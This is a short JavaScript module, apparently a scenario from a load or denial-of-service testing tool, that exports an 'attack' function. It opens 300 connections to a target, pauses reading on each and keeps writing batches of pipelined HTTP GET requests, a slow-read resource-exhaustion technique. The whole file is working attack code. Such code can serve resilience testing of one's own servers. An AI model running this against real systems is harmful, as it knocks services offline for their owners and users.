// Three hundred connections that ask for as much as they may at a time and read nothing, again and again.
import { holdConnections } from '../support/connections.mjs';

export const attack = (target) => {
  const packet = `GET / HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n\r\n`.repeat(10);
  return holdConnections(target, 300, (socket) => {
    socket.pause();
    socket.write(packet);
    return () => socket.write(packet);
  });
};
